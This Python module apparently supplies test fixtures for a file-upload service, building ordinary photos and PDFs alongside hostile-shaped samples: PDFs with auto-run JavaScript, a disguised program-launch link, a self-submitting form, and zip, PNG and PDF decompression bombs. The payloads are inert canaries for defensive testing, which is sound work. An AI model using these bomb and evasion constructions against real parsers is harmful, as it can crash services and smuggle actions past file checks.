"""Files as people really send them, and as attackers do. Nothing hostile is stored in the tree."""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
import zlib
from datetime import datetime
from typing import Any

import pikepdf
import pillow_heif
from PIL import Image

from yizhan.domain.files import actions
from yizhan.domain.files.models import StoredFile

ORIENTATION, GPS = 0x0112, 0x8825
pillow_heif.register_heif_opener()


def picture(
    kind: str = "JPEG",
    size: tuple[int, int] = (640, 480),
    *,
    orientation: int = 0,
    gps: bool = False,
    mode: str = "RGB",
    **options: Any,
) -> bytes:
    """A photograph: left half red, right half blue, so that turning it shows."""
    red = {"RGB": (200, 0, 0), "RGBA": (200, 0, 0, 255), "L": 60, "CMYK": (0, 255, 255, 50)}[mode]
    blue = {"RGB": (0, 0, 200), "RGBA": (0, 0, 200, 0), "L": 200, "CMYK": (255, 255, 0, 50)}[mode]
    image = Image.new(mode, size, red)
    image.paste(blue, (size[0] // 2, 0, size[0], size[1]))
    exif = Image.Exif()
    if orientation:
        exif[ORIENTATION] = orientation
    if gps:
        exif[0x010F] = "CanaryCam"
        exif.get_ifd(GPS).update({1: "N", 2: (34.0, 49.0, 12.5), 3: "E", 4: (114.0, 49.0, 3.5)})
    if exif:
        options["exif"] = exif.tobytes()
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def noise(size: tuple[int, int], kind: str = "JPEG") -> bytes:
    """A picture that does not compress: bytes of random colours."""
    pixels = random.Random(7).randbytes(size[0] * size[1] * 3)
    out = io.BytesIO()
    Image.frombytes("RGB", size, pixels).save(out, kind, quality=95)
    return out.getvalue()


def pdf(pages: int = 1, *, dress: Any = None, **saving: Any) -> bytes:
    """A PDF with blank pages; `dress(document)` puts something on it before it is saved."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    if dress:
        dress(document)
    out = io.BytesIO()
    document.save(out, **saving)
    return out.getvalue()


def locked_pdf() -> bytes:
    """A PDF that asks for a password before it opens."""
    return pdf(encryption=pikepdf.Encryption(owner="o", user="geheim", R=6))


def restricted_pdf() -> bytes:
    """A PDF that opens without a password but forbids printing."""
    allow = pikepdf.Permissions(print_highres=False, print_lowres=False)
    return pdf(encryption=pikepdf.Encryption(owner="o", user="", R=6, allow=allow))


def script_pdf(document: pikepdf.Pdf) -> None:
    """JavaScript on opening, in the name tree and on a page."""
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('canary')"))
    document.Root.OpenAction = document.make_indirect(script)
    names = pikepdf.Array([pikepdf.String("a"), document.make_indirect(pikepdf.Dictionary(script))])
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))
    document.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(script))


def launch_pdf(document: pikepdf.Pdf) -> None:
    """A link that starts a program, disguised as a structure element, chained behind a jump."""
    launch = pikepdf.Dictionary(
        Type=pikepdf.Name.StructElem, S=pikepdf.Name.Launch, F=pikepdf.String("canary.exe"), P=1
    )
    jump = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0]), Next=launch)
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=jump
    )
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(link)])


def attachment_pdf(document: pikepdf.Pdf) -> None:
    """A file inside the file."""
    document.attachments["canary.txt"] = b"canary inside"


def media_pdf(document: pikepdf.Pdf) -> None:
    """A film on the page and a form that sends itself away."""
    film = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9],
        RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary()),
    )  # fmt: skip
    away = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://canary.test/"))
    form = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Widget,
        Rect=[0, 0, 9, 9],
        A=away,
        FT=pikepdf.Name.Btn,
        T=pikepdf.String("b"),
    )
    field = document.make_indirect(form)
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
    document.pages[0].obj.Annots = pikepdf.Array([film, field])


def zip_of(**members: bytes) -> bytes:
    """A ZIP; `__` in a name stands for a slash, `_dot_` for a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def zip_bomb(*, as_docx: bool = False) -> bytes:
    """50 MB of zeros in 50 kB, plain or dressed as a Word document."""
    zeros = bytes(50 * 1024 * 1024)
    if as_docx:
        return zip_of(_dot_types=b"x", word__document_dot_xml=zeros)
    return zip_of(zeros_dot_bin=zeros)


def png_bomb(width: int, height: int) -> bytes:
    """A PNG that claims to be enormous, in a few bytes of zeros."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(bytes(1024 * 1024), 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def inflating(megabytes: int, first: bytes = b"") -> bytes:
    """Packed bytes that unpack to so many megabytes of zeros; one block, repeated."""
    packer = zlib.compressobj(9)
    head = packer.compress(first) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(1024 * 1024)) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * megabytes + packer.flush()


def pdf_bomb(megabytes: int = 1200) -> bytes:
    """A PDF whose object stream inflates to gigabytes when it is opened."""
    body = inflating(megabytes, first=b"5 0 << >> ")
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(body)
    objects = [
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/Extra 5 0 R>>endobj\n",
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n",
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n",
        b"4 0 obj" + stream + body + b"\nendstream endobj\n",
    ]
    text, places = b"%PDF-1.5\n", []
    for thing in objects:
        places.append(len(text))
        text += thing
    rows = struct.pack(">BIB", 0, 0, 0)
    rows += b"".join(struct.pack(">BIB", 1, place, 0) for place in places)
    rows += struct.pack(">BIB", 2, 4, 0) + struct.pack(">BIB", 1, len(text), 0)
    table = b"6 0 obj<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    return text + table + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % len(text)


def bomb_page(document: pikepdf.Pdf) -> None:
    """A page whose drawing unpacks to 500 MB of nothing."""
    drawing = pikepdf.Stream(document, inflating(500), Filter=pikepdf.Name.FlateDecode)
    document.pages[0].Contents = drawing


def twice_packed_page(document: pikepdf.Pdf) -> None:
    """Packed twice: each layer multiplies by a thousand."""
    body = zlib.compress(zlib.compress(b" " * 1024 * 1024, 9), 9)
    twice = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    document.pages[0].Contents = pikepdf.Stream(document, body, Filter=twice)


def program() -> bytes:
    """The beginning of a Windows program."""
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(50) + os.urandom(2000)


def stored_file(*, owner: Any, at: datetime, name: str = "身份证.jpg", **kw: Any) -> StoredFile:
    """A small photograph kept for an account, through the real door."""
    stream = io.BytesIO(kw.pop("content", None) or picture())
    region = kw.pop("region", "410225")
    return actions.store_upload(region=region, name=name, stream=stream, by=owner, at=at, **kw)
